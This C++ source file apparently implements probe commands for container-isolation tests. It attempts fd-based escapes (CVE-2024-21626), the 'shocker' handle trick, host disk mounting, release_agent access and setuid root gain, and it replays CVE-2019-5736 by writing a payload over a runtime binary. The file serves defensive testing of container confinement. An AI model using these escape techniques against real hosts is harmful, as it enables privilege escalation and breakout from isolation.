// The reliability tests' probe commands (tests/faults, issue 10): a real
// crash, the fd tricks for getting out of a container, and the host-wide
// privileges a container must not have.
#include <dirent.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#include <grp.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "probe.hpp"

namespace {

using probe::Args;

// "allowed", "denied EPERM", or "unsupported" when this kernel lacks the call.
std::string outcome(long rc) {
    if (rc != -1) return "allowed";
    if (errno == ENOSYS) return "unsupported";
    const char* name = ::strerrorname_np(errno);
    return std::string("denied ") + (name ? name : std::to_string(errno));
}

// A fault, not kill(2): the kernel forces SIGSEGV even on a PID 1, which
// ignores signals it has no handler for.
int cmd_crash(const Args&) {
    std::cout << "ready " << ::getpid() << std::endl;
    void* page = ::mmap(nullptr, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED) return 1;
    *static_cast<volatile char*>(page) = 1;
    return 0;
}

// Whether `relative` (a host path without its leading '/') can be reached
// from directory fd `dir` by walking up with "..": from a directory of the
// host's tree it can, from anything under the container's root it cannot.
bool reachable_from(int dir, const std::string& relative) {
    std::string up;
    for (int i = 0; i < 64; ++i) up += "../";
    struct stat st {};
    return ::fstatat(dir, (up + relative).c_str(), &st, 0) == 0;
}

// The fd tricks: an fd the runtime left open (CVE-2024-21626), and the
// /proc links of every process we can see (cwd, root, fd/*): any of them
// that points at a directory outside our root leads to MARKER.
int cmd_fd_escape(const Args& args) {
    const std::string relative = args.at(0).substr(1);
    std::vector<std::string> links;
    DIR* proc = ::opendir("/proc");
    if (!proc) return 1;
    while (dirent* e = ::readdir(proc)) {
        if (std::atoi(e->d_name) <= 0 && std::string(e->d_name) != "self") continue;
        const std::string base = std::string("/proc/") + e->d_name;
        links.push_back(base + "/cwd");
        links.push_back(base + "/root");
        if (DIR* fds = ::opendir((base + "/fd").c_str())) {
            while (dirent* f = ::readdir(fds))
                if (f->d_name[0] != '.') links.push_back(base + "/fd/" + f->d_name);
            ::closedir(fds);
        }
    }
    ::closedir(proc);
    int tried = 0, reached = 0;
    for (const auto& link : links) {
        int fd = ::open(link.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;  // not a directory: nothing to walk up from
        ++tried;
        if (reachable_from(fd, relative)) {
            ++reached;
            std::cout << "escape.fd: reached through " << link << "\n";
        }
        ::close(fd);
    }
    for (int fd = 3; fd < 1024; ++fd) {  // inherited fds, whatever they are
        struct stat st {};
        if (::fstat(fd, &st) != 0 || !S_ISDIR(st.st_mode)) continue;
        ++tried;
        if (reachable_from(fd, relative)) {
            ++reached;
            std::cout << "escape.fd: reached through inherited fd " << fd << "\n";
        }
    }
    std::cout << "escape.fd.tried: " << tried << "\n";
    std::cout << "escape.fd: " << (reached ? "reached" : "blocked") << "\n";
    return 0;
}

// Calls the kernel checks against the host's user namespace (capable(),
// not ns_capable()), each harmless when allowed: they tell whether any
// capability of ours counts on the host. "allowed" is right for a root
// container without --userns, which keeps root's capabilities.
int cmd_hostcaps(const Args&) {
    // CAP_SYS_TIME: set the time zone to what it is (no clock is touched).
    struct timezone tz {};
    ::syscall(SYS_gettimeofday, nullptr, &tz);
    std::cout << "cap.sys_time: " << outcome(::syscall(SYS_settimeofday, nullptr, &tz)) << "\n";
    // CAP_SYS_MODULE is checked before the (empty) image is looked at.
    long rc = ::syscall(SYS_init_module, nullptr, 0UL, "");
    if (rc == -1 && errno != EPERM && errno != ENOSYS) rc = 0;  // past the check: allowed
    std::cout << "cap.sys_module: " << outcome(rc) << "\n";
    // CAP_SYS_RAWIO: access to an unused I/O port, dropped again at once.
    rc = ::ioperm(0x80, 1, 1);
    if (rc == 0) ::ioperm(0x80, 1, 0);
    std::cout << "cap.sys_rawio: " << outcome(rc) << "\n";
    // CAP_DAC_READ_SEARCH: open_by_handle_at(2) opens any inode of a file
    // system by its handle, bypassing the root ("shocker", 2014).
    alignas(file_handle) unsigned char storage[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
    auto* handle = reinterpret_cast<file_handle*>(storage);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id = 0;
    rc = ::name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0);
    if (rc == 0) {
        int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        rc = ::open_by_handle_at(root, handle, O_RDONLY | O_CLOEXEC);
        if (rc >= 0) ::close(static_cast<int>(rc));
        ::close(root);
    }
    std::cout << "cap.dac_read_search: " << outcome(rc) << "\n";
    // CAP_MKNOD for a block device (the host's disks), in our own /tmp.
    const std::string node = "/tmp/probe-hostcaps-" + std::to_string(::getpid());
    rc = ::mknod(node.c_str(), S_IFBLK | 0600, ::makedev(7, 0));
    if (rc == 0) ::unlink(node.c_str());
    std::cout << "cap.mknod: " << outcome(rc) << "\n";
    // A host-wide sysctl, opened for writing (and closed unwritten).
    int fd = ::open("/proc/sys/vm/drop_caches", O_WRONLY | O_CLOEXEC);
    if (fd >= 0) ::close(fd);
    std::cout << "cap.sysctl: " << outcome(fd) << "\n";
    return 0;
}

// What Docker's defaults refuse a container (lab 11), each tried in a way
// that changes nothing: a host file is opened and closed unwritten or read,
// a kernel object made is closed at once, a module load gets no image.
// "allowed" in lab 08 as root; "denied ..." (or "empty"/"zeroed") in lab 11.
int cmd_confine(const Args&) {
    for (const char* key :
         {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"}) {
        const std::string status = probe::slurp("/proc/self/status");
        const size_t at = status.find(std::string("\n") + key + ":");
        if (at == std::string::npos) continue;
        const size_t start = status.find_first_not_of(" \t", at + std::strlen(key) + 2);
        std::cout << "status." << key << ": "
                  << status.substr(start, status.find('\n', start) - start) << "\n";
    }
    // The shocker (2014) and the nsfs handles of 6.18: any inode by its handle.
    alignas(file_handle) unsigned char storage[sizeof(file_handle) + MAX_HANDLE_SZ] = {};
    auto* handle = reinterpret_cast<file_handle*>(storage);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id = 0;
    long rc = ::name_to_handle_at(AT_FDCWD, "/", handle, &mount_id, 0);
    if (rc == 0) {
        rc = ::open_by_handle_at(AT_FDCWD, handle, O_RDONLY | O_CLOEXEC);
        if (rc >= 0) ::close(static_cast<int>(rc));
    }
    std::cout << "open_by_handle_at: " << outcome(rc) << "\n";
    // A new user namespace by clone(2) (where an unprivileged root gets every
    // capability again) and by unshare(2), each in a child that exits at once.
    rc = ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
    if (rc == 0) ::_exit(0);
    if (rc > 0) ::waitpid(static_cast<pid_t>(rc), nullptr, 0);
    std::cout << "clone.newuser: " << outcome(rc) << "\n";
    int channel[2];
    if (::pipe(channel) != 0) return 1;
    pid_t child = ::fork();
    if (child == 0) {
        int result = ::unshare(CLONE_NEWUSER) == 0 ? 0 : errno;
        if (::write(channel[1], &result, sizeof result) < 0) ::_exit(1);
        ::_exit(0);
    }
    int result = EIO;
    if (::read(channel[0], &result, sizeof result) != sizeof result) result = EIO;
    ::waitpid(child, nullptr, 0);
    ::close(channel[0]);
    ::close(channel[1]);
    errno = result;
    std::cout << "unshare.newuser: " << outcome(result == 0 ? 0 : -1) << "\n";
    // bpf(2): a one-entry array map, closed at once.
    union bpf_attr map {};
    map.map_type = BPF_MAP_TYPE_ARRAY;
    map.key_size = 4;
    map.value_size = 4;
    map.max_entries = 1;
    rc = ::syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map);
    if (rc >= 0) ::close(static_cast<int>(rc));
    std::cout << "bpf: " << outcome(rc) << "\n";
    // perf_event_open(2): a software clock counting this process, closed at once.
    perf_event_attr event{};
    event.type = PERF_TYPE_SOFTWARE;
    event.size = sizeof event;
    event.config = PERF_COUNT_SW_TASK_CLOCK;
    event.disabled = 1;
    event.exclude_kernel = 1;
    event.exclude_hv = 1;
    rc = ::syscall(SYS_perf_event_open, &event, 0, -1, -1, 0UL);
    if (rc >= 0) ::close(static_cast<int>(rc));
    std::cout << "perf_event_open: " << outcome(rc) << "\n";
    // keyctl(2): which session keyring we share (makes none).
    rc = ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    std::cout << "keyctl: " << outcome(rc) << "\n";
    rc = ::syscall(SYS_userfaultfd, O_CLOEXEC);
    if (rc >= 0) ::close(static_cast<int>(rc));
    std::cout << "userfaultfd: " << outcome(rc) << "\n";
    // A module load with no image: refused before (capability, filter) or after the check.
    rc = ::syscall(SYS_init_module, nullptr, 0UL, "");
    if (rc == -1 && errno != EPERM && errno != ENOSYS) rc = 0;  // past the check: allowed
    std::cout << "init_module: " << outcome(rc) << "\n";
    // mount(2) of a tmpfs of our own, undone at once.
    const std::string dir = "/tmp/probe-confine-" + std::to_string(::getpid());
    ::mkdir(dir.c_str(), 0700);
    rc = ::mount("probe", dir.c_str(), "tmpfs", 0, "size=4k");
    if (rc == 0) ::umount2(dir.c_str(), MNT_DETACH);
    ::rmdir(dir.c_str());
    std::cout << "mount: " << outcome(rc) << "\n";
    // The kernel's memory: /proc/kcore read (16 bytes of its ELF header).
    int fd = ::open("/proc/kcore", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        std::cout << "kcore: " << outcome(fd) << "\n";
    } else {
        char head[16];
        ssize_t n = ::read(fd, head, sizeof head);
        std::cout << "kcore: " << (n > 0 ? "allowed, read" : n == 0 ? "empty" : outcome(n)) << "\n";
        ::close(fd);
    }
    // kallsyms shows the kernel's addresses only to CAP_SYSLOG (kptr_restrict).
    std::string symbols(64, '\0');
    fd = ::open("/proc/kallsyms", O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? 0 : ::read(fd, symbols.data(), symbols.size());
    if (fd >= 0) ::close(fd);
    symbols.resize(got > 0 ? static_cast<size_t>(got) : 0);
    std::cout << "kallsyms: "
              << (symbols.empty()                        ? "empty"
                  : symbols.find_first_not_of('0') >= 16 ? "zeroed"
                                                         : "allowed, addresses")
              << "\n";
    // Host-wide files, opened for writing and closed unwritten.
    for (const char* path : {"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"}) {
        fd = ::open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) ::close(fd);
        std::cout << "write " << path << ": " << outcome(fd) << "\n";
    }
    // What the container still may do: a raw socket (ping), port 80.
    fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    if (fd >= 0) ::close(fd);
    std::cout << "raw_socket: " << outcome(fd) << "\n";
    fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(80);
    rc = fd < 0 ? -1 : ::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address);
    if (fd >= 0) ::close(fd);
    std::cout << "bind80: " << outcome(rc) << "\n";
    return 0;
}

// The host's disk, from inside (ARGS: MAJOR:MINOR FSTYPE, the host's view
// of its root file system): its node made in /dev (a tmpfs without nodev,
// where nodes work), opened read-only, and its file system mounted
// through the new mount API, read-only, and dropped at once: never
// attached anywhere, never written. "ro" is asked first; a host that has
// it mounted read-write answers EBUSY ("would change RO state"), and then
// only the mount is read-only, on the host's own (existing) superblock.
int cmd_host_disk(const Args& args) {
    unsigned major = 0, minor = 0;
    if (std::sscanf(args.at(0).c_str(), "%u:%u", &major, &minor) != 2) return 2;
    const std::string node = "/dev/probe-disk-" + std::to_string(::getpid());
    long rc = ::mknod(node.c_str(), S_IFBLK | 0400, ::makedev(major, minor));
    std::cout << "disk.mknod: " << outcome(rc) << "\n";
    if (rc == 0) {
        int fd = ::open(node.c_str(), O_RDONLY | O_CLOEXEC);
        std::cout << "disk.open: " << outcome(fd) << "\n";
        if (fd >= 0) ::close(fd);
    } else {
        std::cout << "disk.open: " << outcome(rc) << " (no node)\n";
    }
    auto fsmount_read_only = [&](bool ro) -> long {
        long fs = ::syscall(SYS_fsopen, args.at(1).c_str(), FSOPEN_CLOEXEC);
        if (fs < 0) return fs;
        long r = ::syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "source", node.c_str(), 0);
        if (r == 0 && ro) r = ::syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "ro", nullptr, 0);
        if (r == 0) r = ::syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, nullptr, nullptr, 0);
        if (r == 0) r = ::syscall(SYS_fsmount, fs, FSMOUNT_CLOEXEC, MOUNT_ATTR_RDONLY);
        const int error = errno;
        if (r >= 0) ::close(static_cast<int>(r));  // a mount never attached goes with its fd
        ::close(static_cast<int>(fs));
        errno = error;
        return r;
    };
    rc = fsmount_read_only(true);
    if (rc < 0 && errno == EBUSY) rc = fsmount_read_only(false);
    std::cout << "disk.fsmount: " << outcome(rc) << "\n";
    ::unlink(node.c_str());
    return 0;
}

// A device outside Docker's list (ARGS: c|b MAJOR:MINOR), by a node made
// in /dev: opened read-only (O_NOCTTY: a terminal does not become ours),
// closed at once. The host's console (c 5:1) is one every kernel has.
int cmd_node_open(const Args& args) {
    unsigned major = 0, minor = 0;
    if (std::sscanf(args.at(1).c_str(), "%u:%u", &major, &minor) != 2) return 2;
    const std::string node = "/dev/probe-node-" + std::to_string(::getpid());
    const mode_t type = args.at(0) == "b" ? S_IFBLK : S_IFCHR;
    long rc = ::mknod(node.c_str(), type | 0400, ::makedev(major, minor));
    if (rc == 0) {
        rc = ::open(node.c_str(), O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
        if (rc >= 0) ::close(static_cast<int>(rc));
    }
    const int error = errno;
    ::unlink(node.c_str());
    errno = error;
    std::cout << "node.open: " << outcome(rc) << "\n";
    return 0;
}

// A v1 hierarchy's release_agent (run as root of the host when a cgroup
// empties), opened for writing and closed unwritten, in a hierarchy this
// probe mounts itself: the first of /proc/cgroups' whose root it can see.
// A pure cgroup v2 kernel has none: "unsupported".
int cmd_release_agent(const Args&) {
    std::vector<std::string> controllers;
    std::istringstream table(probe::slurp("/proc/cgroups"));
    for (std::string line; std::getline(table, line);) {
        std::istringstream fields(line);
        std::string name;
        int hierarchy = 0, cgroups = 0, enabled = 0;
        if (line.starts_with("#") || !(fields >> name >> hierarchy >> cgroups >> enabled)) continue;
        if (hierarchy > 0 && enabled) controllers.push_back(name);
    }
    const std::string dir = "/tmp/probe-release-" + std::to_string(::getpid());
    ::mkdir(dir.c_str(), 0700);
    std::string result = "unsupported";
    for (const std::string& controller : controllers) {
        if (::mount("cgroup", dir.c_str(), "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC,
                    controller.c_str()) != 0) {
            if (errno == EBUSY || errno == EINVAL) continue;  // co-mounted with another
            result = outcome(-1);
            break;
        }
        int fd = ::open((dir + "/release_agent").c_str(), O_WRONLY | O_CLOEXEC);
        const std::string opened = outcome(fd);
        if (fd >= 0) ::close(fd);
        ::umount2(dir.c_str(), MNT_DETACH);
        result = opened + " (" + controller + ")";
        if (fd >= 0 || errno != ENOENT) break;  // ENOENT: not its root, try the next
    }
    ::rmdir(dir.c_str());
    std::cout << "release_agent: " << result << "\n";
    return 0;
}

// The container's own pids.max (the test starts it with --pids), raised
// to VALUE: where the runtime mounted it, else through a cgroup file
// system mounted again (root may remount or mount another; the runtime's
// is read-only). Only the container's own cgroup, the test's, is written.
int cmd_cgroup_raise(const Args& args) {
    auto write_limit = [&](const std::string& file) -> long {
        int fd = ::open(file.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0) return -1;
        long n = ::write(fd, args.at(0).data(), args.at(0).size());
        const int error = errno;
        ::close(fd);
        errno = error;
        return n;
    };
    const bool v2 = ::access("/sys/fs/cgroup/cgroup.controllers", F_OK) == 0;
    const std::string file = v2 ? "/sys/fs/cgroup/pids.max" : "/sys/fs/cgroup/pids/pids.max";
    long rc = write_limit(file);
    std::string result = outcome(rc);
    if (rc < 0 && (errno == EROFS || errno == EACCES)) {
        const std::string dir = "/tmp/probe-raise-" + std::to_string(::getpid());
        ::mkdir(dir.c_str(), 0700);
        if (::mount("cgroup", dir.c_str(), v2 ? "cgroup2" : "cgroup", MS_NOSUID | MS_NODEV,
                    v2 ? nullptr : "pids") == 0) {
            rc = write_limit(dir + "/pids.max");
            result = outcome(rc) + " (mounted again)";
            ::umount2(dir.c_str(), MNT_DETACH);
        }
        ::rmdir(dir.c_str());
    }
    std::string now = probe::slurp(file);
    while (!now.empty() && now.back() == '\n') now.pop_back();
    std::cout << "cgroup.raise: " << result << "\n";
    std::cout << "cgroup.pids.max: " << now << "\n";
    return 0;
}

// A setuid-root copy of the probe, planted on a tmpfs mounted without
// nosuid (where the container may mount; else in /tmp, which is nosuid),
// run by uid 1000: "setuid.euid: 0" means it gained root. It prints its
// euid with `euid`.
int cmd_setuid_gain(const Args&) {
    const std::string dir = "/tmp/probe-suid-" + std::to_string(::getpid());
    ::mkdir(dir.c_str(), 0755);
    long rc = ::mount("probe", dir.c_str(), "tmpfs", 0, "size=8m,mode=0755");
    std::cout << "setuid.mount: " << outcome(rc) << "\n";
    const std::string copy = dir + "/probe";
    {
        const std::string self = probe::slurp("/proc/self/exe");
        int fd = ::open(copy.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
        if (fd < 0 || ::write(fd, self.data(), self.size()) != static_cast<ssize_t>(self.size())) {
            std::cout << "setuid: failed: cannot write " << copy << "\n";
            return 1;
        }
        ::close(fd);
    }
    if (::chown(copy.c_str(), 0, 0) != 0 || ::chmod(copy.c_str(), 04755) != 0) {
        std::cout << "setuid: failed: chown/chmod " << copy << ": " << std::strerror(errno) << "\n";
        return 1;
    }
    std::cout << std::flush;
    pid_t child = ::fork();
    if (child == 0) {
        if (::setgroups(0, nullptr) != 0 || ::setresgid(1000, 1000, 1000) != 0 ||
            ::setresuid(1000, 1000, 1000) != 0) {
            std::cout << "setuid: failed: setresuid(1000): " << std::strerror(errno) << std::endl;
            ::_exit(1);
        }
        ::execl(copy.c_str(), "probe", "euid", static_cast<char*>(nullptr));
        std::cout << "setuid: failed: exec " << copy << ": " << std::strerror(errno) << std::endl;
        ::_exit(1);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    ::unlink(copy.c_str());
    if (rc == 0) ::umount2(dir.c_str(), MNT_DETACH);
    ::rmdir(dir.c_str());
    return 0;
}

int cmd_euid(const Args&) {
    std::cout << "setuid.euid: " << ::geteuid() << "\n";
    return 0;
}

// CVE-2019-5736 overwrote the host's runtime through /proc/PID/exe of a
// runtime process inside the container: try to open PATH for writing
// (nothing is written; the fd is closed at once).
int cmd_open_write(const Args& args) {
    int fd = ::open(args.at(0).c_str(), O_WRONLY | O_CLOEXEC);
    std::cout << "open-write: " << outcome(fd) << "\n";
    if (fd >= 0) ::close(fd);
    return 0;
}

// argv[0] of process `pid` ("" when it is gone or unreadable).
std::string first_argument(const std::string& pid) {
    int fd = ::open(("/proc/" + pid + "/cmdline").c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return {};
    char text[256] = {};
    ssize_t n = ::read(fd, text, sizeof text - 1);
    ::close(fd);
    return n > 0 ? std::string(text) : std::string();
}

// The attacker's half of CVE-2019-5736, replayed on a copy of the runtime.
// The container made its /bin/sh "#!/proc/self/exe --pid-file=FIFO": a
// runtime process inside that runs /bin/sh re-runs its own binary here
// (argv[0] "/proc/self/exe"), which blocks reading FIFO. Keep an O_PATH fd
// to its /proc/PID/exe, let it go (a line that is no PID), then try for
// 10 s (ETXTBSY while the runtime still runs) to open that fd for writing
// and write to it: that would rewrite the file the runtime ran from.
int cmd_cve_2019_5736(const Args& args) {
    std::cout << "ready " << ::getpid() << std::endl;
    int fifo = ::open(args.at(0).c_str(), O_WRONLY | O_CLOEXEC);  // blocks for the runtime
    if (fifo < 0) {
        std::cout << "cve: failed: open(" << args.at(0) << "): " << std::strerror(errno) << "\n";
        return 1;
    }
    int exe = -1;
    std::string found;
    DIR* proc = ::opendir("/proc");
    while (dirent* entry = proc ? ::readdir(proc) : nullptr) {
        const std::string pid = entry->d_name;
        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
        if (first_argument(pid) != "/proc/self/exe") continue;
        exe = ::open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
        found = pid + " (" + outcome(exe) + ")";
        break;
    }
    if (proc) ::closedir(proc);
    std::cout << "cve: runtime inside: " << (found.empty() ? "not found" : "PID " + found) << "\n";
    const char line[] = "no PID\n";
    if (::write(fifo, line, sizeof line - 1) < 0) std::cout << "cve: write(fifo) failed\n";
    ::close(fifo);
    const std::string path = "/proc/self/fd/" + std::to_string(exe);
    for (int attempt = 1; exe >= 0 && attempt <= 200; ++attempt) {
        int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0 && errno == ETXTBSY) {  // still running somewhere: wait
            ::usleep(50 * 1000);
            continue;
        }
        if (fd < 0) {
            std::cout << "cve: open for writing: " << outcome(fd) << "\n";
            return 0;
        }
        const char payload[] = "#!/bin/sh\necho the container rewrote the runtime\n";
        ssize_t n = ::write(fd, payload, sizeof payload - 1);
        std::cout << "cve: write: "
                  << (n >= 0 ? "wrote " + std::to_string(n) + " bytes" : outcome(n)) << "\n";
        ::close(fd);
        return 0;
    }
    if (exe >= 0) std::cout << "cve: open for writing: busy for 10 s\n";
    return 0;
}

// getpid and getppid through the i386 ABI (int 0x80: numbers 20 and 64),
// so that a seccomp filter's architectures are seen: a filter that lacks
// the i386 ABI kills us here (SIGSYS); one that has it applies its rules.
int cmd_i386_syscalls(const Args&) {
#if defined(__x86_64__)
    auto call = [](long number) {
        long rc = number;
        asm volatile("int $0x80" : "+a"(rc) : : "memory");
        return rc;
    };
    const long pid = call(20), ppid = call(64);
    std::printf("i386 getpid: %ld\ni386 getppid: %s\n", pid,
                ppid < 0 ? ("-" + std::string(strerrorname_np(static_cast<int>(-ppid)))).c_str()
                         : std::to_string(ppid).c_str());
    return 0;
#else
    std::printf("i386: not this machine's ABI\n");
    return 0;
#endif
}

const probe::Register r_crash("crash", cmd_crash, "print 'ready PID', then fault (SIGSEGV)");
const probe::Register r_fd_escape("fd-escape", cmd_fd_escape,
                                  "MARKER: walk up from every fd and /proc link toward MARKER");
const probe::Register r_open_write("open-write", cmd_open_write,
                                   "PATH: try to open PATH for writing (writes nothing)");
const probe::Register r_cve("cve-2019-5736", cmd_cve_2019_5736,
                            "FIFO: replay CVE-2019-5736 against a runtime run as /bin/sh");
const probe::Register r_hostcaps("hostcaps", cmd_hostcaps,
                                 "try host-wide privileged calls, each harmless when allowed");
const probe::Register r_confine("confine", cmd_confine,
                                "try what Docker's defaults refuse (lab 11), changing nothing");
const probe::Register r_host_disk(
    "host-disk", cmd_host_disk,
    "MAJOR:MINOR FSTYPE: mknod, open and fsmount the host's disk, read-only, at once undone");
const probe::Register r_node_open(
    "node-open", cmd_node_open, "c|b MAJOR:MINOR: make a node in /dev, open it read-only, at once");
const probe::Register r_release_agent("release-agent", cmd_release_agent,
                                      "open a v1 hierarchy's release_agent for writing, unwritten");
const probe::Register r_cgroup_raise("cgroup-raise", cmd_cgroup_raise,
                                     "VALUE: write VALUE to the container's own pids.max");
const probe::Register r_i386("i386-syscalls", cmd_i386_syscalls,
                             "getpid and getppid by int 0x80 (seccomp's architectures)");
const probe::Register r_setuid_gain(
    "setuid-gain", cmd_setuid_gain,
    "plant a setuid-root probe, run it as uid 1000, print its euid");
const probe::Register r_euid("euid", cmd_euid, "print 'setuid.euid: EUID'");

}  // namespace
